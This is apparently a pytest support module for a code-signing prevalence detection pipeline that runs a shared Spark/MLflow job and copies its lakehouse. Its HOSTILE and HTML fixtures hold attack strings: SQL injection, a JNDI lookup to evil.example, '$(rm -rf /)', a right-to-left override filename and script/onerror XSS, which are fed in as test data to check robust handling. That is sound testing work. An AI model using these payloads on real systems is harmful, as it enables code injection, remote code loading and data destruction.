"""The one end-to-end pipeline run the suite shares, and what the modules that use it have in common.

``write_pipeline_inputs`` generates one small fleet and adds hand-made events whose attacker-controlled strings
are hostile (quotes, SQL, Unicode controls, NUL, HTML); ``build_pipeline`` runs ``codesign-prevalence run --json``
on them in this process (ingest -> features -> train -> score -> report). ``tests/conftest.py`` writes and builds
each once per session (fixtures ``pipeline_inputs`` and ``pipeline_run``); the modules that only read a finished
lakehouse read ``pipeline_run.root``.

That lakehouse is never written after the run. A module that must write (reruns, a retrain, killed runs, a
second source scored with the same model, ``report`` logging to MLflow) works on ``copy_lake``: a copy of the
whole lakehouse whose embedded MLflow store is re-pointed at the copy, so that the copy's runs, models and
artifacts live in the copy only.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import hashlib
import io
import json
import shutil
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from pyspark.sql import SparkSession

from codesign_prevalence.cli import main
from codesign_prevalence.config import load_config
from codesign_prevalence.jobs.context import JobContext
from codesign_prevalence.simulator import FleetSummary, generate_fleet
from codesign_prevalence.storage import (
    GOLD_CANDIDATES,
    GOLD_HASH_PREVALENCE,
    GOLD_SIGNER_PREVALENCE,
    SILVER_RULE_MATCHES,
)

END = dt.date(2026, 11, 26)
MODEL = "pipeline_iforest"
N_ESTIMATORS = 20
MODEL_SETTINGS = (f"model.name={MODEL}", f"model.n_estimators={N_ESTIMATORS}")
FLEET_HOSTS = 10
FEATURE_TABLES = (SILVER_RULE_MATCHES, GOLD_HASH_PREVALENCE, GOLD_SIGNER_PREVALENCE, GOLD_CANDIDATES)
MLFLOW_VARIABLES = ("MLFLOW_TRACKING_URI", "MLFLOW_REGISTRY_URI")

# The JVMs the suite starts for one short command each (the subprocess runs of the crash and concurrency tests,
# spark-submit's driver and executors, the Spark Connect server) run with ``spark.fast_start`` (C1-only JIT, no
# whole-stage code generation: spark.py); the suite's own session does not, since it lives long enough for C2 to
# pay off (benchmarks/README.md, "The test suite's wall time").
FAST_START = "spark.fast_start=true"

# Strings an attacker controls, each put in every string field of one process start (test_pipeline_reliability).
HOSTILE = (
    "O'Brien \"Quoted\" Ltd'; DROP TABLE gold.scored_binaries; --",
    "`backtick` ${jndi:ldap://evil.example/a} ${spark.sql.warehouse.dir} $(rm -rf /) %s {0} \\N \\' \\\"",
    "Ünïcödé 日本語 🙂 עברית \u202eexe.txt\u200b Ω≈ç√",
    "control \t tab \r\n newline \x01\x7f and NUL \x00 end",
    "Long" + "x" * 5000 + "';--",
)
# A seed-rule match (revoked, Temp folder, not allow-listed) whose subject and path are HTML (test_report_cli).
HTML_SUBJECT = '<script>alert("x")</script> & Sons'
HTML_SHA = "c" * 64
# Code Integrity's events as Winlogbeat ships them (issue 17), among them a 3033 (blocked) of this file on wks-7,
# which also starts it (ci_blocked_event): its scored row names the block (test_pipeline_reliability).
CODEINTEGRITY_FIXTURE = Path(__file__).parent / "fixtures" / "codeintegrity_winlogbeat.ndjson"
CI_BLOCKED_SHA = "1234567890abcdef" * 4
HANDMADE_HOSTS = len(HOSTILE) + 2  # one host per hostile event, the HTML one's, wks-7


def hostile_sha256(index: int) -> str:
    return hashlib.sha256(f"hostile-{index}".encode()).hexdigest()


def hostile_event(index: int, text: str) -> dict[str, object]:
    """A process start of a binary seen once, whose every attacker-controlled string holds ``text``."""
    return {
        "@timestamp": f"{END.isoformat()}T10:{index:02d}:00Z",
        "event": {"category": ["process"], "type": ["start"], "id": f"hostile-{index}"},
        "host": {"id": f"hostile-host-{index}", "name": f"host {text}"},
        "user": {"name": f"user {text}"},
        "process": {
            "executable": f"C:\\Users\\Public\\{text}\\payload.exe",
            "name": "payload.exe",
            "parent": {"executable": "C:\\Windows\\System32\\cmd.exe", "name": "cmd.exe"},
            "hash": {"sha256": hostile_sha256(index)},
            "pe": {"original_file_name": f"{text}.exe", "company": f"company {text}"},
            "code_signature": {
                "exists": True,
                "trusted": False,
                "status": "errorExpired",
                "subject_name": f"subject {text}",
            },
        },
    }


def html_event() -> dict[str, object]:
    return {
        "@timestamp": f"{END.isoformat()}T11:00:00Z",
        "event": {"category": ["process"], "type": ["start"], "id": "hostile-html"},
        "host": {"id": "hostile-html-host", "name": "<b>HOST</b>"},
        "process": {
            "executable": "C:\\Users\\x\\AppData\\Local\\Temp\\<img src=x onerror=alert(1)>.exe",
            "name": "evil.exe",
            "hash": {"sha256": HTML_SHA},
            "code_signature": {"exists": True, "trusted": False, "status": "revoked", "subject_name": HTML_SUBJECT},
        },
    }


def ci_blocked_event() -> dict[str, object]:
    """wks-7 starts the file Code Integrity blocked there (the fixture's 3033 event, five days before)."""
    return {
        "@timestamp": f"{END.isoformat()}T12:00:00Z",
        "event": {"category": ["process"], "type": ["start"], "id": "ci-blocked-start"},
        "host": {"id": "5d1c2f0a-1111-4a7e-9d1e-000000000007", "name": "wks-7"},
        "process": {
            "executable": "C:\\Users\\alice\\Downloads\\invoice_1234.exe",
            "name": "invoice_1234.exe",
            "parent": {"executable": "C:\\Windows\\explorer.exe", "name": "explorer.exe"},
            "hash": {"sha256": CI_BLOCKED_SHA},
            "code_signature": {
                "exists": True, "trusted": False, "status": "errorExpired", "subject_name": "Lapsed Soft"
            },
        },
    }


def write_hostile_events(path: Path) -> Path:
    """The hand-made events: the hostile ones, the HTML one, and Code Integrity's fixture with one start it
    concerns (each line of the fixture as it is: the ingest tells the sources apart line by line)."""
    lines = [json.dumps(hostile_event(i, text), ensure_ascii=i % 2 == 0) for i, text in enumerate(HOSTILE)]
    lines.append(json.dumps(html_event()))
    lines.append(json.dumps(ci_blocked_event()))
    lines.extend(CODEINTEGRITY_FIXTURE.read_text(encoding="utf-8").splitlines())
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def table_rows(spark: SparkSession, root: Path, table: str, drop: tuple[str, ...] = ()) -> list[str]:
    """The whole table, every column but ``drop``, as a sorted list of row reprs (NaN equals NaN)."""
    frame = spark.read.format("delta").load(str(root / table)).drop(*drop)
    return sorted(repr(row) for row in frame.collect())


def context_for(spark: SparkSession, root: Path, *overrides: str) -> JobContext:
    """A job context on the lakehouse ``root`` with the shared pipeline's model settings."""
    config = load_config(None, [f"storage.root={root}", *MODEL_SETTINGS, *overrides])
    return JobContext(config=config, verbosity=0, _spark=spark)


@contextlib.contextmanager
def embedded_mlflow() -> Iterator[None]:
    """MLflow variables of the environment unset: every lakehouse uses its own embedded store."""
    with pytest.MonkeyPatch.context() as patch:
        for variable in MLFLOW_VARIABLES:
            patch.delenv(variable, raising=False)
        yield


@dataclass(frozen=True)
class CliOutcome:
    code: int
    stdout: str
    stderr: str


def run_cli(*args: str) -> CliOutcome:
    """The command line in this process (on the tests' SparkSession), its stdout and stderr captured."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return CliOutcome(code, out.getvalue(), err.getvalue())


@dataclass(frozen=True)
class PipelineInputs:
    """The shared run's input files (a generated fleet plus the hand-made events) and the fleet's summary: what
    a test that runs the pipeline in a JVM of its own needs before the shared run has to exist."""

    inputs: list[str]
    fleet: FleetSummary

    def options(self, root: Path) -> list[str]:
        """The ``--set`` options of the shared run on ``root``: its model settings and the fleet's labels."""
        settings = (f"storage.root={root}", *MODEL_SETTINGS, f"evaluate.labels={self.fleet.labels_path}")
        return [part for setting in settings for part in ("--set", setting)]


def write_pipeline_inputs(base: Path) -> PipelineInputs:
    fleet = generate_fleet(base / "fleet", hosts=FLEET_HOSTS, days=2, seed=3, end_date=END, events_per_host_day=30)
    return PipelineInputs([str(fleet.events_path), str(write_hostile_events(base / "hostile.ndjson"))], fleet)


@dataclass
class PipelineRun:
    """The shared run: its lakehouse (read only), what it read (:class:`PipelineInputs`) and what ``run --json``
    printed."""

    root: Path
    given: PipelineInputs
    outcome: CliOutcome
    _rows: dict[tuple[str, tuple[str, ...]], list[str]] = field(default_factory=dict, repr=False)

    @property
    def inputs(self) -> list[str]:
        return self.given.inputs

    @property
    def fleet(self) -> FleetSummary:
        return self.given.fleet

    @property
    def summary(self) -> dict[str, Any]:
        summary: dict[str, Any] = json.loads(self.outcome.stdout)
        return summary

    def options(self, root: Path | None = None) -> list[str]:
        """The ``--set`` options of the run, on ``root`` (default: the shared lakehouse)."""
        return self.given.options(root or self.root)

    def rows(self, spark: SparkSession, table: str, drop: tuple[str, ...] = ()) -> list[str]:
        """``table_rows`` of the shared lakehouse, read once (the lakehouse is not written after the run)."""
        key = (table, drop)
        if key not in self._rows:
            self._rows[key] = table_rows(spark, self.root, table, drop)
        return self._rows[key]


def build_pipeline(base: Path, given: PipelineInputs) -> PipelineRun:
    with embedded_mlflow():
        outcome = run_cli(*given.options(base / "lake"), "run", "--input", *given.inputs, "--json")
    assert outcome.code == 0, outcome.stderr[-3000:]
    return PipelineRun(base / "lake", given, outcome)


def copy_lake(source: Path, target: Path) -> Path:
    """A copy of the lakehouse ``source`` at ``target``, its embedded MLflow store re-pointed at the copy.

    MLflow's SQLite store keeps absolute artifact locations (experiments, runs, logged models, model versions):
    every text value holding ``source`` is rewritten to hold ``target``, so that models load from the copy and
    whatever a test logs or trains lands in the copy, never in ``source``.
    """
    shutil.copytree(source, target)
    database = target / "mlflow" / "mlflow.db"
    if database.is_file():
        old, new = str(source), str(target)
        with contextlib.closing(sqlite3.connect(database)) as connection, connection:
            tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
            for table in tables:
                columns = connection.execute(f'PRAGMA table_info("{table}")').fetchall()
                for column in (c[1] for c in columns if any(t in str(c[2]).upper() for t in ("CHAR", "TEXT"))):
                    # Identifiers from the database's own schema; the values are bound parameters.
                    connection.execute(
                        f'UPDATE "{table}" SET "{column}" = replace("{column}", ?, ?) '  # noqa: S608
                        f'WHERE instr("{column}", ?) > 0',
                        (old, new, old),
                    )
    return target
